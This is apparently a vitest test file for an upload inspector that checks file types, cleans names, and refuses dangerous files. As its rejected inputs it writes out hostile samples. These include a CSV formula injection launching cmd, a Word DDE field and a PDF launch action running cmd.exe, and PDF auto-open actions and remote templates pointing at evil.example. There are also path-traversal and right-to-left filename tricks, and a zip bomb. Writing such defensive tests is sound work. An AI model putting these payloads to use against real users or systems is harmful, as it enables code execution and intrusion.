import sharp from 'sharp'
import { unzipSync } from 'fflate'
import { describe, expect, test } from 'vitest'
import type { Failure } from '#platform/http'
import {
  contentTypes,
  document,
  m4a,
  mp3,
  ogg,
  openDocument,
  pdf,
  picture,
  pixelFlood,
  relations,
  wav,
  zip,
} from './corpus.ts'
import { savedName } from '../file-names.ts'
import { inspectFile } from './inspect-file.ts'

const text = (words: string) => Buffer.from(words)
const latin = (words: string) => Buffer.from(words, 'latin1')
type MadeFile = Buffer | Promise<Buffer>

/** The result for a file: its type and saved name, or the refusal. */
async function fate(name: string, made: MadeFile): Promise<string> {
  try {
    const { mediaType, name: saved } = await inspectFile({ name, bytes: await made })
    return `${mediaType} ${saved}`
  } catch (error) {
    return (error as Failure).fields.file?.[0]?.key.replace('files.', '') ?? String(error)
  }
}

const office = 'application/vnd.openxmlformats-officedocument.'
const word = `${office}wordprocessingml.document`

const address = '/S /URI /URI (http://evil.example)'
/** A link, which a person follows. */
const link = `<< /Type /Annot /Subtype /Link /A << ${address} >> >>`

describe('a file is kept under the type of its bytes and a clean name', () => {
  const kept: [name: string, made: MadeFile, becomes: string][] = [
    ['Задание.pdf', pdf(), 'application/pdf Задание.pdf'],
    ['opens at a page.pdf', pdf([], { catalog: '/OpenAction [3 0 R /Fit]' }), 'application/pdf opens at a page.pdf'],
    [
      'opens by a jump.pdf',
      pdf(['<< /S /GoTo /D (intro) >>'], { catalog: '/OpenAction 5 0 R' }),
      'application/pdf opens by a jump.pdf',
    ],
    [
      'jumps, and has links.pdf',
      pdf(['<< /S /GoTo /D 3 0 R /Next [6 0 R] >>', '<< /S /Named /N /FirstPage >>', link], {
        catalog: '/OpenAction 5 0 R /Lang (/OpenAction << /S /GoTo >>)',
      }),
      'application/pdf jumps, and has links.pdf',
    ],
    ['packed.pdf', pdf([], { packed: ['<< /Type /Annot >>'] }), 'application/pdf packed.pdf'],
    ['a.jpg', picture('jpeg'), 'image/jpeg a.jpg'],
    ['a.JPEG', picture('jpeg'), 'image/jpeg a.jpeg'],
    ['без имени', picture('png'), 'image/png без имени.png'],
    ['a.webp', picture('webp'), 'image/webp a.webp'],
    ['a.gif', picture('gif'), 'image/gif a.gif'],
    ['a.docx', document('docx'), `${word} a.docx`],
    ['a.xlsx', document('xlsx'), `${office}spreadsheetml.sheet a.xlsx`],
    ['a.pptx', document('pptx'), `${office}presentationml.presentation a.pptx`],
    [
      'linked.docx',
      document('docx', relations('hyperlink', 'https://example.org/?a=1&amp;b=2')),
      `${word} linked.docx`,
    ],
    ['chart.docx', document('docx', { 'word/embeddings/a.xlsx': document('xlsx') }), `${word} chart.docx`],
    ['a.odt', openDocument(), 'application/vnd.oasis.opendocument.text a.odt'],
    ['a.mp3', mp3(), 'audio/mpeg a.mp3'],
    ['bare.mp3', mp3({ tag: false }), 'audio/mpeg bare.mp3'],
    ['three.mp3', mp3({ frames: 3, end: 'TAG' }), 'audio/mpeg three.mp3'],
    ['a.m4a', m4a(), 'audio/mp4 a.m4a'],
    ['a.ogg', ogg(), 'audio/ogg a.ogg'],
    ['a.wav', wav(), 'audio/wav a.wav'],
    ['Задание.TXT', text('Дроби\r\n\t½'), 'text/plain Задание.txt'],
    ['notes.md', text('# Notes'), 'text/plain notes.md'],
    ['marks.csv', text('имя;балл\n"Анна";-1,5\n+375 29 111-22-33;0'), 'text/csv marks.csv'],
    ['markup.txt', text('<script>alert(1)</script>'), 'text/plain markup.txt'],
    ['../../etc/passwd.pdf', pdf(), 'application/pdf passwd.pdf'],
    [String.raw`C:\a\b.pdf`, pdf(), 'application/pdf b.pdf'],
    ['photo.exe.jpg', picture('jpeg'), 'image/jpeg photo_exe.jpg'],
    ['Глава 2.1.pdf', pdf(), 'application/pdf Глава 2.1.pdf'],
    ['a\u202Efdp.pdf', pdf(), 'application/pdf afdp.pdf'],
    ['a.pdf. ', pdf(), 'application/pdf a.pdf'],
    ['...pdf', pdf(), 'application/pdf file.pdf'],
    ['CON.pdf', pdf(), 'application/pdf _CON.pdf'],
  ]
  test.each(kept)('%j', async (name, made, becomes) => expect(await fate(name, made)).toBe(becomes))
})

describe('a file is refused', () => {
  const script = '<< /S /JavaScript /JS (app.alert(1)) >>'
  const dde = '<w:instrText>DD</w:instrText><w:instrText xml:space="preserve">E&#x41;UTO c:\\\\cmd.exe</w:instrText>'
  const refused: [name: string, made: MadeFile, why: string][] = [
    ['run.bat', text('@echo off\r\nstart calc'), 'kind'],
    ['evil.hta', text('<hta:application><script>1</script>'), 'kind'],
    ['evil.html', text('<!doctype html><script>1</script>'), 'kind'],
    ['a.svg', text('<svg xmlns="http://www.w3.org/2000/svg" onload="x()"/>'), 'kind'],
    ['a.js', text('alert(1)'), 'kind'],
    ['script', text('#!/bin/sh'), 'kind'],
    ['evil.html', pdf(), 'kind'],
    ['a.pdf.exe', pdf(), 'kind'],
    ['a.pdf', latin('MZ\x90\x00'), 'kind'],
    ['a.pdf', text('<!doctype html>'), 'name'],
    ['a.png', picture('jpeg'), 'name'],
    ['a.txt', pdf(), 'name'],
    ['a.xlsx', document('docx'), 'name'],
    ['a.pdf\u202E.exe', pdf(), 'kind'],
    ['a.txt', latin('a\x00b'), 'encoding'],
    ['a.txt', latin('\xff\xfe'), 'encoding'],
    ['a.txt', text(''), 'empty'],
    ['a.csv', text("a,b\n=cmd|' /C calc'!A0,1"), 'formulas'],
    ['a.csv', text('a;"-2+3+cmd|x"'), 'formulas'],
    ['a.doc', latin('\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1'), 'old_office'],
    ['script.pdf', pdf([script]), 'active'],
    ['packed script.pdf', pdf([], { packed: [script] }), 'active'],
    ['numbered.pdf', pdf(['<< /S /J#61vaScript /J#53 (x) >>']), 'active'],
    ['starts.pdf', pdf([], { catalog: '/OpenAction << /S /Launch /F (cmd.exe) >>' }), 'active'],
    ['opens an address.pdf', pdf([], { catalog: `/OpenAction << ${address} >>` }), 'active'],
    ['by a number.pdf', pdf([`<< ${address} >>`], { catalog: '/OpenAction 5 0 R' }), 'active'],
    ['in other letters.pdf', pdf(['<< /#53 /U#52I >>'], { catalog: '/Open#41ction%\n5 0%\nR' }), 'active'],
    ['behind a bracket.pdf', pdf([], { catalog: `/OpenAction << /D (>> #28 \\) >>) ${address} >>` }), 'active'],
    ['after a jump.pdf', pdf([`<< ${address} >>`], { catalog: '/OpenAction << /S /GoTo /Next [5 0 R] >>' }), 'active'],
    ['when shown.pdf', pdf([`<< /O 6 0 R >>`, `<< ${address} >>`], { catalog: '/AA 5 0 R' }), 'active'],
    ['packed address.pdf', pdf([], { packed: [`<< ${address} >>`], catalog: '/OpenAction 9 0 R' }), 'active'],
    ['packed all.pdf', pdf([], { packed: [`<< /AA << /O << ${address} >> >> >>`] }), 'active'],
    ['a share.pdf', pdf([], { catalog: String.raw`/AA << /O << /S /GoToR /F (\\\\evil\\a) >> >>` }), 'active'],
    ['in a circle.pdf', pdf(['<< /Next 5 0 R >>'], { catalog: '/OpenAction 5 0 R' }), 'active'],
    ['carries.pdf', pdf(['<< /Type /Filespec /EF << /F 9 0 R >> >>', '<< /Type /EmbeddedFile >>']), 'active'],
    ['locked.pdf', pdf([], { catalog: '>> << /Encrypt 9 0 R' }), 'protected'],
    [
      'hidden.pdf',
      pdf(['<< /Type /ObjStm /Filter [/ASCIIHexDecode /FlateDecode] >>\nstream\n00>\nendstream']),
      'broken',
    ],
    ['and a zip.pdf', Buffer.concat([pdf(), zip({ 'a.class': 'x' })]), 'broken'],
    ['cut.pdf', pdf().subarray(0, 100), 'broken'],
    ['macros.docx', document('docx', { 'word/vbaProject.bin': 'x' }), 'active'],
    [
      'renamed.docx',
      document('docx', contentTypes('application/vnd.ms-word.document.macroEnabled.main+xml')),
      'active',
    ],
    ['control.xlsx', document('xlsx', { 'xl/activeX/activeX1.bin': 'x' }), 'active'],
    ['program.pptx', document('pptx', { 'ppt/embeddings/oleObject1.bin': 'x' }), 'active'],
    ['page.docx', document('docx', { 'word/chunk.html': '<script>' }), 'active'],
    ['template.docx', document('docx', relations('attachedTemplate', 'https://evil.example/a.dotm')), 'active'],
    ['share.docx', document('docx', relations('image', String.raw`\\evil\a.png`)), 'active'],
    ['field.docx', document('docx', { 'word/header1.xml': dde }), 'active'],
    [
      'link.xlsx',
      document('xlsx', {
        'xl/externalLinks/externalLink1.xml': '<externalLink><ddeLink ddeService="cmd"/></externalLink>',
      }),
      'active',
    ],
    ['entity.docx', document('docx', { 'word/a.xml': '<!DOCTYPE a [<!ENTITY b "c">]>' }), 'active'],
    ['other letters.docx', document('docx', { 'word/a.xml': Buffer.from('<a/>', 'utf16le') }), 'broken'],
    [
      'inside.docx',
      document('docx', { 'word/embeddings/a.docx': document('docx', { 'word/vbaProject.bin': 'x' }) }),
      'active',
    ],
    ['basic.odt', openDocument({ 'Basic/Standard/Module1.xml': '<a/>' }), 'active'],
    ['listens.odt', openDocument({ 'content.xml': '<s:event-listener s:event-name="dom:load"/>' }), 'active'],
    ['locked.odt', openDocument({ 'META-INF/manifest.xml': '<manifest:encryption-data/>' }), 'protected'],
    ['up.docx', document('docx', { '../../a.xml': 'x' }), 'broken'],
    ['any.docx', zip({ 'a.xml': 'x' }), 'kind'],
    ['a.zip', zip({ 'a.xml': 'x' }), 'kind'],
    ['in front.docx', Buffer.concat([latin('PK\x03\x04<script>'), document('docx')]), 'broken'],
    [
      'bomb.docx',
      document('docx', { 'word/a.xml': new Uint8Array(80e6), 'word/b.xml': new Uint8Array(80e6) }),
      'unpacks',
    ],
    ['lying.docx', lying(), 'broken'],
    ['flood.png', pixelFlood(), 'pixels'],
    ['cut.png', picture('png', 300, 300).then((bytes) => bytes.subarray(0, 60)), 'broken'],
    ['page.mp3', text('ID3 <script>alert(1)</script>'), 'broken'],
    ['two bytes.mp3', latin('\xff\xfb<html>'), 'broken'],
    ['two.mp3', mp3({ frames: 2, end: 'TAG' }), 'broken'],
    ['film.ogg', ogg('\x80theora'), 'broken'],
    ['and more.wav', Buffer.concat([wav(), zip({ 'a.class': 'x' })]), 'broken'],
    ['and more.m4a', Buffer.concat([m4a(), zip({ 'a.class': 'x' })]), 'broken'],
    ['empty.m4a', m4a('free'), 'broken'],
  ]
  test.each(refused)('%j (%#)', async (name, made, why) => expect(await fate(name, made)).toBe(why))

  /** Says of a file that it unpacks into less than it does. */
  function lying(): Buffer {
    const bytes = document('docx', { 'word/z.xml': new Uint8Array(5e6) })
    const directory = bytes.readUInt32LE(bytes.length - 6)
    bytes.writeUInt32LE(100, bytes.indexOf('word/z.xml', directory) - 46 + 24)
    return bytes
  }
})

test('a picture is drawn anew, without its place of origin and without anything appended to it', async () => {
  const taken = Buffer.concat([await picture('jpeg', 40, 30), zip({ 'a.class': 'x' })])
  expect((await sharp(taken).metadata()).exif).toBeDefined()
  const { bytes } = await inspectFile({ name: 'a.jpg', bytes: taken })
  const facts = await sharp(bytes).metadata()
  expect([facts.format, facts.width, facts.height, facts.exif]).toEqual(['jpeg', 40, 30, undefined])
  expect(() => unzipSync(bytes)).toThrow()
})

test('an animated picture stays animated', async () => {
  const frames = await sharp(Buffer.alloc(8 * 16 * 3, 90), {
    raw: { width: 8, height: 16, channels: 3, pageHeight: 8 },
  })
    .gif({ delay: [100, 100] })
    .toBuffer()
  const { bytes } = await inspectFile({ name: 'a.gif', bytes: frames })
  expect((await sharp(bytes).metadata()).pages).toBe((await sharp(frames).metadata()).pages)
})

test('a file kept under older rules is saved under the ending of its type', () => {
  expect(savedName('run.bat', 'text/plain')).toBe('run.txt')
  expect(savedName('evil.hta', 'application/pdf')).toBe('evil.pdf')
})

test('the largest PDF and table are inspected to their ends', async () => {
  expect(await fate('a.csv', Buffer.alloc(9_000_000, 'a#41 stream\n1,-1,'))).toBe('text/csv a.csv')
  const filler = Buffer.alloc(9_000_000, '/a#41 stream\n1,-')
  expect(await fate('a.pdf', Buffer.concat([latin('%PDF-1.7\n'), filler, latin('\n%%EOF')]))).toBe(
    'application/pdf a.pdf',
  )
})

test.each(['/AA<<', '/AA(', '/AA%', '/AA 1%', '/AA[1 0 R', '/OpenAction 5 0 R '])(
  'a PDF full of %j costs no more than any other',
  async (piece) => {
    const many = Buffer.concat([
      latin('%PDF-1.7\n5 0 obj << /S /GoTo >>\n'),
      Buffer.alloc(9_000_000, piece),
      latin('\n%%EOF'),
    ])
    expect(await fate('a.pdf', many)).toMatch(/active|application/)
  },
)
